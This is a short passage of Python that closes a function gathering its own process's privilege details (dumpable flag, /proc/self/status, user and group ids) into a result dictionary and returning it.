        "dumpable": _libc.prctl(PR_GET_DUMPABLE, 0, 0, 0, 0),
        "proc_self_status": attempt(_read("/proc/self/status")),
        "ids": [list(os.getresuid()), list(os.getresgid()), os.getgroups()],
    }
    result["outputs"] = ran
    return result
